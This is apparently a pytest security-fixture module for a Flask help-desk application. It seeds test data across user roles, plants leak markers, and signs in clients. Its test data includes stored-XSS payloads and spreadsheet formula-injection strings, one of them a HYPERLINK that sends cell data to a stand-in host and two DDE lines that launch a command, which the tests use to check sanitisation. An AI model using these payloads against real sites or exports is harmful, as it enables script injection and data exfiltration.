"""Security fixtures: a world of people and someone else's objects, saved once and restored
before each test, and clients signed in as every role.

The world is built once per test session (migrations, people, requests, comments, files, tokens
and every area's objects declared in ``access_rules*.py``) into a template SQLite file; each test
copies it back, so a test may change anything without affecting the next one.
"""

from __future__ import annotations

import importlib.metadata
import io
import shutil
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from hdcore import HelpDesk, Settings, migrate
from hdcore import services as svc
from hdcore.host import ENTRY_POINT_GROUP
from hdcore.models import Attachment
from tests.security import access_rules
from tests.web.conftest import csrf_of
from web.app import create_app

#: The roles of the ``people`` fixture, by attribute, least privileged first.
ROLES = ("employee", "other", "head", "tech", "tech2", "lead", "manager", "admin")

#: Texts planted in someone else's objects; a page showing one to a role not allowed to see it
#: is a leak (see ``access_rules.MARKERS`` for who may see each).
MARK_REQUEST = "Zqx7RequestMark"
MARK_INTERNAL = "Zqx7InternalMark"
MARK_INCIDENT = "Zqx7IncidentMark"
MARK_PUBLIC = "Zqx7PublicMark"
MARK_KB_INTERNAL = "Zqx7KbInternalMark"


def make_people(session: Session) -> SimpleNamespace:
    """The organisation of ``tests/conftest.py``'s ``people`` fixture, plus a bystander."""
    fin = svc.create_department(session, None, code="FIN", name="Finance", cost_centre="CC-100")
    svc.create_department(session, None, code="SALES", name="Sales", cost_centre="CC-200")

    def user(username: str, name: str, role: str = "employee", dept: str | None = None) -> Any:
        return svc.create_user(session, None, username=username, full_name=name, role=role,
                               password="demo", department=dept, email=f"{username}@example.com")

    p = SimpleNamespace(
        employee=user("zhang.wei", "Zhang Wei", dept="FIN"),
        other=user("liu.yang", "Liu Yang", dept="SALES"),
        head=user("zhou.min", "Zhou Min", dept="FIN"),
        tech=user("li.na", "Li Na", "technician"),
        tech2=user("zhao.lei", "Zhao Lei", "technician"),
        lead=user("wang.fang", "Wang Fang", "lead"),
        manager=user("chen.jie", "Chen Jie", "manager"),
        admin=user("admin", "Administrator", "admin"),
        # Someone nobody signs in as: the target of the user-administration routes.
        bystander=user("sun.li", "Sun Li", dept="SALES"),
    )
    fin.head = p.head
    p.apps = svc.create_group(session, None, name="Applications", members=[p.tech])
    p.infra = svc.create_group(session, None, name="Infrastructure", members=[p.tech2])
    session.commit()
    return p


#: Stored-XSS attempts written into every text a user can write; none may reach a page as
#: markup (each carries the token ``Xq9`` so a test can find where it went).
XSS = (
    "<script>alert('Xq9-1')</script>",
    "\"><img src=x onerror=alert('Xq9-2')>",
    "<a href=\"javascript:alert('Xq9-3')\">click</a>",
    "<svg/onload=alert('Xq9-4')>",
    "' onmouseover='alert(5)' data-x='Xq9-5",
)
XSS_TEXT = " ".join(XSS)


def plant_xss(s: Session, hd: HelpDesk, p: SimpleNamespace) -> SimpleNamespace:
    """A request, comments, a task, a file, an e-mail, an article and a forum thread, written
    by people (and a stranger mailing in) with script in every text."""
    from hdcore.mail import intake

    sample = dict(hd.host.sample_requests("email_admin")[0].details)
    sample.update(symptom=XSS_TEXT, employee_name=XSS[1][:60])
    req = svc.submit_request(
        s, p.employee, category="email_admin", title=XSS[0], description=XSS_TEXT,
        details=sample,
        attachments=[svc.Upload(f"{XSS[4]}.txt", io.BytesIO(b"<script>alert(6)</script>"),
                                "text/html")])
    svc.assign(s, p.lead, req.id, assignee=p.tech, group=p.apps)
    svc.add_comment(s, p.employee, req.id, XSS_TEXT)
    svc.add_comment(s, p.tech, req.id, XSS_TEXT, internal=True)
    svc.add_task(s, p.tech, req.id, title=XSS[3], description=XSS_TEXT, assignee=p.tech)
    raw = (
        "From: \"<script>alert('Xq9-7')</script>\" <stranger@outside.example>\r\n"
        "To: helpdesk@example.com\r\n"
        f"Subject: {XSS[1]}\r\n"
        "Message-ID: <xss@outside.example>\r\nDate: Mon, 1 Jan 2024 09:00:00 +0800\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"<p>Hello</p>{XSS_TEXT}<iframe src=\"javascript:alert('Xq9-8')\"></iframe>\r\n"
    ).encode()
    mail = intake.store(s, raw, source="test")
    intake.process(s, mail.message.id)
    article = svc.create_article(s, p.tech, title=XSS[0], solution=XSS_TEXT, symptom=XSS_TEXT,
                                 cause=XSS[2])
    svc.change_article_status(s, p.lead, article.id, "publish")
    thread = svc.start_thread(s, p.employee, board="general", title=XSS[1], body=XSS_TEXT)
    s.commit()
    return SimpleNamespace(request=req, mail_id=mail.message.id, article=article, thread=thread)


#: Spreadsheet formulas written where exports pick them up; no exported cell may start one.
FORMULAS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def plant_formulas(s: Session, hd: HelpDesk, p: SimpleNamespace) -> SimpleNamespace:
    """A request, a task, a comment and an asset whose texts are formulas."""
    sample = dict(hd.host.sample_requests("email_admin")[0].details)
    req = svc.submit_request(s, p.employee, category="email_admin", title=FORMULAS[0],
                             description=FORMULAS[1], details=sample)
    svc.assign(s, p.lead, req.id, assignee=p.tech, group=p.apps)
    svc.add_comment(s, p.tech, req.id, FORMULAS[2])
    svc.add_task(s, p.tech, req.id, title=FORMULAS[3], assignee=p.tech)
    asset = svc.create_asset(s, p.tech, type="printer", model=FORMULAS[0], serial=FORMULAS[1],
                             location=FORMULAS[3], notes=FORMULAS[2], user=p.employee)
    s.commit()
    return SimpleNamespace(request=req, asset=asset)


def build_world(hd: HelpDesk) -> SimpleNamespace:
    """People, and objects belonging to the employee (Finance) worked on by ``tech``."""
    with hd.session_scope() as s:
        p = make_people(s)
        w = SimpleNamespace(people=p, ids={})
        sample = hd.host.sample_requests("email_admin")[0]
        req = svc.submit_request(
            s, p.employee, category="email_admin", title=f"Mailbox full {MARK_REQUEST}",
            description=f"Please help {MARK_REQUEST}", details=dict(sample.details),
            attachments=[svc.Upload(f"screen-{MARK_REQUEST}.txt",
                                    io.BytesIO(b"hello " + MARK_REQUEST.encode()))])
        svc.assign(s, p.lead, req.id, assignee=p.tech, group=p.apps)
        svc.add_comment(s, p.tech, req.id, f"Checking {MARK_PUBLIC}")
        svc.add_comment(s, p.tech, req.id, f"Password is in the safe {MARK_INTERNAL}",
                        internal=True)
        task = svc.add_task(s, p.tech, req.id, title=f"Clean the mailbox {MARK_REQUEST}",
                            assignee=p.tech)
        s.commit()
        w.request = req
        w.task = task
        w.attachment = s.scalars(select(Attachment).where(Attachment.request_id == req.id)).one()
        incident = hd.host.sample_requests("network_security")
        details = next(x.details for x in incident if x.details.get("kind") == "security_incident")
        inc = svc.submit_request(
            s, p.employee, category="network_security",
            title=f"Strange logins {MARK_INCIDENT}", description=f"Seen {MARK_INCIDENT}",
            details=dict(details))
        svc.assign(s, p.lead, inc.id, assignee=p.tech, group=p.apps)
        s.commit()
        w.incident = inc
        w.tokens = {role: svc.issue_token(s, None, getattr(p, role), name="tests").secret
                    for role in ROLES}
        w.ids = {name: person.id for name, person in vars(p).items()}
        w.xss = plant_xss(s, hd, p)
        w.formulas = plant_formulas(s, hd, p)
        staff_article = svc.create_article(
            s, p.tech, title=f"Reset the VPN appliance {MARK_KB_INTERNAL}",
            solution=f"Hold the button {MARK_KB_INTERNAL}", visibility="staff")
        svc.change_article_status(s, p.lead, staff_article.id, "publish")
        s.commit()
        w.staff_article = staff_article
        for build in access_rules.builders():
            build(s, hd, w)
            s.commit()
        w.args = {name: value(w) for name, value in access_rules.arguments().items()}
    return w


def plugins() -> list[object]:
    """Every installed category plugin."""
    return [ep.load() for ep in importlib.metadata.entry_points(group=ENTRY_POINT_GROUP)]


class World:
    """The saved world, its live help desk and app, and a way back to the saved state."""

    def __init__(self, home: Path) -> None:
        self.home = home
        self.db = home / "helpdesk.db"
        self.template = home / "template.db"
        self.files = home / "attachments"
        self.saved_files = home / "template-attachments"
        self.hd = HelpDesk(Settings(database_url=f"sqlite:///{self.db}", home=home,
                                    discover_plugins=False), plugins=plugins())
        migrate.upgrade(self.hd)
        self.data = build_world(self.hd)
        self.hd.dispose()
        shutil.copyfile(self.db, self.template)
        if self.files.exists():
            shutil.copytree(self.files, self.saved_files)
        self.app = create_app(self.hd, {"TESTING": True})

    def restore(self) -> None:
        """Put the database and the stored files back as they were after building."""
        self.hd.dispose()
        for suffix in ("-wal", "-shm"):
            Path(f"{self.db}{suffix}").unlink(missing_ok=True)
        shutil.copyfile(self.template, self.db)
        if self.saved_files.exists():
            shutil.rmtree(self.files, ignore_errors=True)
            shutil.copytree(self.saved_files, self.files)


@pytest.fixture(scope="session")
def world_state(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """The saved world (built once per test session)."""
    state = World(tmp_path_factory.mktemp("security-world"))
    yield state
    state.hd.dispose()


@pytest.fixture
def world(world_state: World) -> SimpleNamespace:
    """The world as saved: ``people``, ``request``, ``incident``, ``task``, ``attachment``,
    ``tokens`` (per role), ``args`` (URL arguments by name) and what areas add."""
    world_state.restore()
    return world_state.data


def sign_in(app: Flask, username: str, password: str = "demo") -> FlaskClient:
    """A client signed in through the login form (CSRF token read from the page)."""
    client = app.test_client()
    html = client.get("/login").get_data(as_text=True)
    resp = client.post("/login", data={"username": username, "password": password,
                                       "csrf_token": csrf_of(html)})
    assert resp.status_code == 302, resp.get_data(as_text=True)
    return client


@pytest.fixture(scope="session")
def role_cookies(world_state: World) -> dict[str | None, tuple[str, str]]:
    """The session cookie and a CSRF token of each role (None: an anonymous visitor who has
    opened the login page), signed in once."""
    world_state.restore()
    p = world_state.data.people
    out: dict[str | None, tuple[str, str]] = {}
    for role in (None, *ROLES):
        if role is None:
            client = world_state.app.test_client()
            html = client.get("/login").get_data(as_text=True)
        else:
            client = sign_in(world_state.app, getattr(p, role).username)
            html = client.get("/me").get_data(as_text=True)
        cookie = client.get_cookie("session")
        assert cookie is not None
        out[role] = (cookie.value, csrf_of(html))
    return out


# -- per-test apps on the parametrised databases (SQLite and PostgreSQL) ------------------------


@pytest.fixture
def app(helpdesk: HelpDesk) -> Flask:
    """The web app on the test's help desk (CSRF on, as in production)."""
    return create_app(helpdesk, {"TESTING": True})


class Visitor:
    """A browser: keeps its cookies, posts forms with the CSRF token of the page they are on."""

    def __init__(self, app: Flask, address: str = "192.0.2.10") -> None:
        self.client = app.test_client()
        self.address = address

    def get(self, url: str, **kw: Any) -> Any:
        return self.client.get(url, environ_base={"REMOTE_ADDR": self.address}, **kw)

    def post(self, url: str, data: dict[str, Any] | None = None, *, page: str | None = None,
             **kw: Any) -> Any:
        html = self.get(page or url).get_data(as_text=True)
        return self.client.post(url, data={**(data or {}), "csrf_token": csrf_of(html)},
                                environ_base={"REMOTE_ADDR": self.address}, **kw)

    def login(self, username: str, password: str = "demo", *, next_url: str | None = None,
              **extra: Any) -> Any:
        url = "/login" + (f"?next={next_url}" if next_url else "")
        return self.post(url, {"username": username, "password": password, **extra})

    def cookie(self, name: str = "session") -> str | None:
        found = self.client.get_cookie(name)
        return found.value if found is not None else None


@pytest.fixture
def visitor(app: Flask) -> Any:
    """``visitor(address=...)``: a new browser (signed out)."""
    return lambda address="192.0.2.10": Visitor(app, address)
